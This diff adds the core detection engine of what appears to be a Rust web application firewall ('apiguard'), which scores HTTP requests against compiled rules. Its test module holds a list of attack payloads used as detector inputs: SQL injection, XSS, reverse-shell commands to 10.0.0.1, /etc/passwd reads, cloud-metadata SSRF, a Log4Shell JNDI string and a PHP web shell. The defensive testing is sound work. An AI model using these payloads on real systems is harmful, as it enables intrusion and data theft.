@@ -1,0 +1,606 @@
+//! The engine: collects targets, runs the protocol checks and the compiled rules, applies
+//! exclusions and paranoia, and scores.
+
+use std::borrow::Cow;
+use std::cell::OnceCell;
+use std::collections::HashSet;
+
+use apiguard_model::{Finding, RequestView};
+
+use crate::collect::{self, Anomaly};
+use crate::config::{EngineConfig, Mode};
+use crate::detectors::{Boundary, protocol};
+use crate::error::RuleError;
+use crate::evidence::{redact, snippet_around};
+use crate::gate::{Bits, Features};
+use crate::normalize::{self, Transform, apply_chain, base64};
+use crate::rules::{Gate, Rule, RuleSet};
+use crate::target::{Target, TargetKind};
+
+/// The engine's answer for one request.
+#[derive(Debug, Clone, PartialEq, Eq, Default)]
+pub struct Verdict {
+    /// Sum of the findings' scores.
+    pub score: u32,
+    /// Every finding, protocol and parser findings first, then per target in request order.
+    pub findings: Vec<Finding>,
+    /// Whether the score reached the threshold in `block` mode.
+    pub blocked: bool,
+}
+
+/// A compiled detection engine: immutable, `Send + Sync`, cheap to share behind an `Arc`.
+#[derive(Debug)]
+pub struct Engine {
+    config: EngineConfig,
+    rules: RuleSet,
+    /// Whether the per-value prefilter may skip rules (always, except in the test that checks
+    /// that it never changes a verdict).
+    prefilter: bool,
+}
+
+impl Engine {
+    /// Compiles the built-in rules plus `extra_rules` (file name, file text: the caller reads
+    /// `config.extra_rule_files`) for `config`.
+    pub fn new(
+        config: EngineConfig,
+        extra_rules: &[(String, String)],
+    ) -> Result<Engine, RuleError> {
+        if !(1..=4).contains(&config.paranoia) {
+            return Err(RuleError::Config(format!(
+                "paranoia must be 1 to 4, not {}",
+                config.paranoia
+            )));
+        }
+        if config.threshold == 0 {
+            return Err(RuleError::Config("threshold must be at least 1".into()));
+        }
+        if config.max_body_inspect == 0
+            || config.limits.max_targets == 0
+            || config.limits.max_depth == 0
+        {
+            return Err(RuleError::Config("limits must be positive".into()));
+        }
+        for (i, ex) in config.exclusions.iter().enumerate() {
+            if ex.rule.is_none() && ex.class.is_none() {
+                return Err(RuleError::Config(format!(
+                    "exclusion {i} names neither a rule nor a class"
+                )));
+            }
+        }
+        let rules = RuleSet::compile(extra_rules, config.paranoia)?;
+        Ok(Engine {
+            config,
+            rules,
+            prefilter: true,
+        })
+    }
+
+    /// The configuration this engine was built with.
+    pub fn config(&self) -> &EngineConfig {
+        &self.config
+    }
+
+    /// Inspects one request.
+    pub fn inspect(&self, request: &RequestView<'_>) -> Verdict {
+        if self.config.mode == Mode::Off {
+            return Verdict::default();
+        }
+        let collected = collect::collect(request, &self.config);
+        let mut sink = Sink {
+            engine: self,
+            findings: Vec::new(),
+            seen: HashSet::new(),
+        };
+        let mut anomalies = collected.anomalies.clone();
+        protocol::check(request, &collected, &mut anomalies);
+        for anomaly in anomalies {
+            sink.anomaly(anomaly);
+        }
+        let mut scratch = Scratch {
+            armed: Bits::with_len(self.rules.rules.len()),
+            local: Vec::new(),
+            local_len: 0,
+        };
+        for (index, target) in collected.targets.iter().enumerate() {
+            self.inspect_target(index, target, &mut sink, &mut scratch);
+        }
+        let findings = sink.findings;
+        let score = findings.iter().fold(0u32, |s, f| s.saturating_add(f.score));
+        Verdict {
+            score,
+            blocked: self.config.mode == Mode::Block && score >= self.config.threshold,
+            findings,
+        }
+    }
+
+    fn inspect_target(
+        &self,
+        target_index: usize,
+        target: &Target,
+        sink: &mut Sink<'_>,
+        scratch: &mut Scratch,
+    ) {
+        if target.value.is_empty() {
+            return;
+        }
+        let ctx = TargetCtx {
+            index: target_index,
+            target,
+            bit: target.group().bit(),
+            display: OnceCell::new(),
+        };
+        let decoded = normalize::decode(&target.value);
+        self.run_groups(&ctx, &target.value, &decoded, false, sink, scratch);
+        if base64_candidate(target.kind)
+            && decoded.len() >= 8
+            && let Some(text) = base64::decode_runs(&decoded, target.kind == TargetKind::Path)
+        {
+            let text_decoded = normalize::decode(&text);
+            self.run_groups(&ctx, &text, &text_decoded, true, sink, scratch);
+        }
+    }
+
+    fn run_groups(
+        &self,
+        ctx: &TargetCtx<'_>,
+        raw: &str,
+        decoded: &str,
+        from_base64: bool,
+        sink: &mut Sink<'_>,
+        scratch: &mut Scratch,
+    ) {
+        let gate = &self.rules.gate;
+        let features = Features::of(decoded);
+        let raw_is_decoded = raw.len() == decoded.len() && raw == decoded;
+        let Scratch {
+            armed,
+            local,
+            local_len,
+        } = scratch;
+        *local_len = 0;
+        armed.clear();
+        scan(gate, decoded, &features, armed);
+        let transparent_mask = features.transparent_mask(decoded, self.rules.transform_mask);
+        // Detector prefilters, computed once per value.
+        let mut detector_gate: [Option<bool>; 5] = [None; 5];
+        for group in &self.rules.groups {
+            if !group.may_apply(ctx.bit, || ctx.display()) {
+                continue;
+            }
+            let (base, rest, base_known) = match group.chain.split_first() {
+                Some((Transform::Decode, rest)) => (decoded, rest, true),
+                _ => (raw, &group.chain[..], raw_is_decoded),
+            };
+            // When the chain leaves the value unchanged up to ASCII case, the literals found in
+            // the decoded value are those of the chain's text; otherwise scan the text itself.
+            let transparent = base_known && group.rest_mask & !transparent_mask == 0;
+            if self.prefilter
+                && transparent
+                && !group.has_always
+                && !armed.intersects(&group.members)
+                && !features.intersects(&group.bytes)
+                && group.detectors.iter().all(|(_, d)| {
+                    !*detector_gate[*d as usize].get_or_insert_with(|| d.may_match(base, &features))
+                })
+            {
+                continue;
+            }
+            let mut text: Option<Cow<'_, str>> = None;
+            let (bits, f): (&Bits, &Features) = if transparent {
+                (armed, &features)
+            } else {
+                // Groups whose chains differ only by a lowercase that is transparent here see
+                // the same literals: scan their text once per value.
+                let drop_lowercase = transparent_mask & Transform::Lowercase.bit() != 0
+                    && !rest.contains(&Transform::Log4j);
+                let key_chain = || {
+                    rest.iter()
+                        .copied()
+                        .filter(move |t| !(drop_lowercase && *t == Transform::Lowercase))
+                };
+                let key = if base_known {
+                    key_chain()
+                        .enumerate()
+                        .try_fold(0u64, |k, (i, t)| {
+                            (i < 15).then(|| k | (u64::from(t as u8) + 1) << (4 * i))
+                        })
+                        .unwrap_or(0)
+                } else {
+                    0
+                };
+                let slot = match local[..*local_len]
+                    .iter()
+                    .position(|e| key != 0 && e.key == key)
+                {
+                    Some(slot) => slot,
+                    None => {
+                        let t = if key != 0 {
+                            let mut value = Cow::Borrowed(base);
+                            for step in key_chain() {
+                                if let Cow::Owned(s) = step.apply(&value) {
+                                    value = Cow::Owned(s);
+                                }
+                            }
+                            value
+                        } else {
+                            apply_chain(base, rest)
+                        };
+                        if *local_len == local.len() {
+                            local.push(GateCache {
+                                key: 0,
+                                bits: Bits::with_len(self.rules.rules.len()),
+                                features: Features::default(),
+                            });
+                        }
+                        let entry = &mut local[*local_len];
+                        *local_len += 1;
+                        entry.key = key;
+                        entry.bits.clear();
+                        entry.features = Features::of(&t);
+                        scan(gate, &t, &entry.features, &mut entry.bits);
+                        if key == 0 || !drop_lowercase || !rest.contains(&Transform::Lowercase) {
+                            text = Some(t);
+                        }
+                        *local_len - 1
+                    }
+                };
+                (&local[slot].bits, &local[slot].features)
+            };
+            let is_armed = |index: usize| {
+                !self.prefilter
+                    || gate.always[index]
+                    || bits.get(index)
+                    || f.intersects(&gate.bytes[index])
+            };
+            let usable = |index: usize, sink: &Sink<'_>| {
+                let rule = &self.rules.rules[index];
+                (if from_base64 {
+                    rule.base64
+                } else {
+                    !rule.only_base64
+                }) && !sink.has(index, ctx.index)
+                    && rule.applies_to(ctx.bit, || ctx.display())
+            };
+            for (index, regex) in &group.regexes {
+                if !is_armed(*index) || !usable(*index, sink) {
+                    continue;
+                }
+                let t = text.get_or_insert_with(|| apply_chain(base, rest));
+                if let Some(m) = regex.find(t) {
+                    sink.rule(
+                        *index,
+                        ctx,
+                        snippet_around(t, m.start(), m.end()),
+                        from_base64,
+                        None,
+                    );
+                }
+            }
+            if let Some(ac) = &group.phrases
+                && group
+                    .phrase_members
+                    .iter()
+                    .any(|&i| is_armed(i) && usable(i, sink))
+            {
+                let t: &str = text.get_or_insert_with(|| apply_chain(base, rest));
+                for m in ac.find_overlapping_iter(t) {
+                    let (index, word) = group.phrase_rules[m.pattern().as_usize()];
+                    if word && !at_word_boundaries(t, m.start(), m.end()) {
+                        continue;
+                    }
+                    if usable(index, sink) {
+                        sink.rule(
+                            index,
+                            ctx,
+                            snippet_around(t, m.start(), m.end()),
+                            from_base64,
+                            None,
+                        );
+                    }
+                }
+            }
+            for (index, detector) in &group.detectors {
+                let may_match = if transparent {
+                    *detector_gate[*detector as usize]
+                        .get_or_insert_with(|| detector.may_match(base, f))
+                } else {
+                    detector.may_match(text.as_deref().unwrap_or(base), f)
+                };
+                if !(is_armed(*index) || may_match) || !usable(*index, sink) {
+                    continue;
+                }
+                let t = text.get_or_insert_with(|| apply_chain(base, rest));
+                if let Some(m) = detector.run(t) {
+                    sink.rule(
+                        *index,
+                        ctx,
+                        snippet_around(t, m.start, m.end),
+                        from_base64,
+                        Some(m.reason),
+                    );
+                }
+            }
+        }
+    }
+}
+
+/// Reusable per-request buffers.
+struct Scratch {
+    armed: Bits,
+    /// Prefilter results of transformed texts of the current value (`local_len` in use).
+    local: Vec<GateCache>,
+    local_len: usize,
+}
+
+/// The prefilter result of one transformed text.
+struct GateCache {
+    /// The transforms applied (4 bits each), 0 when not shareable.
+    key: u64,
+    bits: Bits,
+    features: Features,
+}
+
+/// One target being inspected; its display form (`query:id`) is built only when needed.
+struct TargetCtx<'t> {
+    index: usize,
+    target: &'t Target,
+    bit: u16,
+    display: OnceCell<String>,
+}
+
+impl TargetCtx<'_> {
+    fn display(&self) -> &str {
+        self.display.get_or_init(|| self.target.to_string())
+    }
+}
+
+/// Arms the rules whose required literals occur in `text` (whose features are `f`).
+fn scan(gate: &Gate, text: &str, f: &Features, armed: &mut Bits) {
+    let Some(ac) = &gate.literals else {
+        return;
+    };
+    let bytes = text.as_bytes();
+    for m in ac.find_overlapping_iter(text) {
+        for &(rule, boundary) in &gate.literal_rules[m.pattern().as_usize()] {
+            if boundary_holds(boundary, bytes, m.start(), m.end(), f) {
+                armed.set(rule);
+            }
+        }
+    }
+}
+
+fn boundary_holds(
+    boundary: Boundary,
+    bytes: &[u8],
+    start: usize,
+    end: usize,
+    f: &Features,
+) -> bool {
+    let before = start.checked_sub(1).map(|i| bytes[i]);
+    let after = bytes.get(end).copied();
+    let sql_letter = |b: u8| b.is_ascii_alphabetic() || b == b'_' || b == b'$' || b >= 0x80;
+    match boundary {
+        Boundary::None => true,
+        Boundary::Alphanumeric => {
+            !before.is_some_and(|b| b.is_ascii_alphanumeric())
+                && !after.is_some_and(|b| b.is_ascii_alphanumeric())
+        }
+        Boundary::Sql | Boundary::SqlCall => {
+            (boundary == Boundary::Sql || f.has(b'('))
+                && !before.is_some_and(sql_letter)
+                && !after.is_some_and(|b| sql_letter(b) || b.is_ascii_digit())
+        }
+    }
+}
+
+/// Kinds whose values may be base64 of a payload.
+fn base64_candidate(kind: TargetKind) -> bool {
+    !matches!(
+        kind,
+        TargetKind::Method
+            | TargetKind::XmlDeclaration
+            | TargetKind::GraphqlQuery
+            | TargetKind::PartHeader
+    )
+}
+
+fn at_word_boundaries(text: &str, start: usize, end: usize) -> bool {
+    let word = |c: char| c.is_alphanumeric() || c == '_';
+    let before = text[..start].chars().next_back().is_none_or(|c| !word(c));
+    let after = text[end..].chars().next().is_none_or(|c| !word(c));
+    before && after
+}
+
+/// Collects findings: deduplicated per rule and target, exclusions and paranoia applied.
+struct Sink<'e> {
+    engine: &'e Engine,
+    findings: Vec<Finding>,
+    /// (rule index, target index) pairs already reported.
+    seen: HashSet<(usize, usize)>,
+}
+
+impl Sink<'_> {
+    fn has(&self, index: usize, target_index: usize) -> bool {
+        self.seen.contains(&(index, target_index))
+    }
+
+    fn excluded(&self, rule_id: &str, class: &str, target: &str) -> bool {
+        self.engine
+            .config
+            .exclusions
+            .iter()
+            .any(|ex| ex.covers(rule_id, class, target))
+    }
+
+    #[allow(clippy::too_many_arguments)]
+    fn rule(
+        &mut self,
+        index: usize,
+        ctx: &TargetCtx<'_>,
+        snippet: String,
+        from_base64: bool,
+        reason: Option<&str>,
+    ) {
+        let rule: &Rule = &self.engine.rules.rules[index];
+        let display = ctx.display();
+        self.seen.insert((index, ctx.index));
+        if self.excluded(&rule.id, &rule.class, display) {
+            return;
+        }
+        let mut evidence = String::new();
+        if from_base64 {
+            evidence.push_str("base64: ");
+        }
+        if let Some(reason) = reason {
+            evidence.push_str(reason);
+            evidence.push_str(": ");
+        }
+        evidence.push_str(&snippet);
+        self.findings.push(Finding {
+            rule_id: Cow::Owned(rule.id.clone()),
+            class: Cow::Owned(rule.class.clone()),
+            severity: rule.severity,
+            score: rule.severity.score(),
+            target: display.to_string(),
+            evidence,
+        });
+    }
+
+    fn anomaly(&mut self, a: Anomaly) {
+        if a.paranoia > self.engine.config.paranoia || self.excluded(a.rule_id, a.class, &a.target)
+        {
+            return;
+        }
+        if self
+            .findings
+            .iter()
+            .any(|f| f.rule_id == a.rule_id && f.target == a.target)
+        {
+            return;
+        }
+        self.findings.push(Finding {
+            rule_id: Cow::Borrowed(a.rule_id),
+            class: Cow::Borrowed(a.class),
+            severity: a.severity,
+            score: a.severity.score(),
+            target: a.target,
+            evidence: redact(&a.evidence),
+        });
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use std::net::SocketAddr;
+
+    use apiguard_model::ClientInfo;
+    use bytes::Bytes;
+    use http::{HeaderMap, HeaderName, HeaderValue, Method, Uri, Version};
+
+    use super::*;
+
+    const PAYLOADS: &[&str] = &[
+        "1' or '1'='1",
+        "admin'--",
+        "x'&email--",
+        " exec xp_cmdshell",
+        "1union select 1,2",
+        "-1 UNION ALL SELECT 1,2,@@version",
+        "OR '{\"b\":2}'::jsonb <@ '{}'::jsonb",
+        "<svg/onload=alert(1)>",
+        "javascript:alert(document.cookie)",
+        "\" onfocus=alert(1) autofocus x=\"",
+        "document.cookie",
+        "alert.call(null,1)",
+        "+ADw-script+AD4-",
+        ";whoami",
+        "w'h'o'am'i",
+        "cat /etc/passwd",
+        "nohup nc -e /bin/sh 10.0.0.1 4444",
+        "/???/??t /???/p??s??",
+        "bash -i >& /dev/tcp/10.0.0.1/8080 0>&1",
+        "http://169.254.169.254/latest/meta-data/",
+        "localhost/admin",
+        "0x7f000001/",
+        "gopher://127.0.0.1:6379/_",
+        "admin)(|(uid=*",
+        "*(|(objectclass=*))",
+        "${jndi:ldap://x.oast.me/a}",
+        "${${lower:j}ndi:${lower:l}dap://x}",
+        "../../../../etc/passwd",
+        "..%c0%af..%c0%afetc/passwd",
+        "{{7*7}}",
+        "<?php system($_GET['c']); ?>",
+        "java.lang.Runtime.getRuntime().exec(\"id\")",
+        "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ",
+        "cnVudGltZQ",
+        "GZvcmNsb3N1cmU",
+        "require('child_process').exec('id')",
+        "__proto__[admin]=1",
+        "<!ENTITY xxe SYSTEM \"file:///etc/passwd\">",
+        "a\r\nSet-Cookie: x=1",
+        "O'Brien",
+        "Please select the drop down from the menu",
+        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36",
+        "It's 5 o'clock; time to select a dinner from the menu",
+        "Ça coûte 5 € (TTC) — merci",
+        "ｓｅｌｅｃｔ＊ｆｒｏｍ",
+        "ſcript",
+    ];
+
+    fn verdict(engine: &Engine, uri: &str, body: &str, header: &str) -> Verdict {
+        let mut headers = HeaderMap::new();
+        headers.insert("host", HeaderValue::from_static("api.example.com"));
+        headers.insert("content-type", HeaderValue::from_static("application/json"));
+        if let Ok(v) = HeaderValue::from_str(header) {
+            headers.insert(HeaderName::from_static("x-test"), v);
+        }
+        let client = ClientInfo {
+            peer: SocketAddr::from(([192, 0, 2, 1], 5555)),
+            tls: false,
+            client_cert_subject: None,
+            client_cert_sans: vec![],
+        };
+        let body = Bytes::from(body.to_string());
+        let method = Method::POST;
+        let uri: Uri = uri.parse().expect("uri");
+        engine.inspect(&RequestView {
+            method: &method,
+            uri: &uri,
+            version: Version::HTTP_11,
+            headers: &headers,
+            client: &client,
+            route: "test",
+            request_id: "t",
+            body: Some(&body),
+        })
+    }
+
+    fn encode(s: &str) -> String {
+        s.bytes()
+            .map(|b| {
+                if b.is_ascii_alphanumeric() {
+                    (b as char).to_string()
+                } else {
+                    format!("%{b:02X}")
+                }
+            })
+            .collect()
+    }
+
+    /// The prefilter only skips work: with and without it, every finding is the same.
+    #[test]
+    fn prefilter_never_changes_findings() {
+        let gated = Engine::new(EngineConfig::default(), &[]).expect("engine");
+        let mut full = Engine::new(EngineConfig::default(), &[]).expect("engine");
+        full.prefilter = false;
+        for payload in PAYLOADS {
+            let uri = format!("/a/{}?q={}", encode(payload), encode(payload));
+            let body = serde_json::json!({ "v": payload, *payload: 1 }).to_string();
+            let header = payload.replace(['\r', '\n'], " ");
+            let a = verdict(&gated, &uri, &body, &header);
+            let b = verdict(&full, &uri, &body, &header);
+            assert_eq!(a, b, "prefilter changed the verdict for {payload:?}");
+        }
+    }
+}
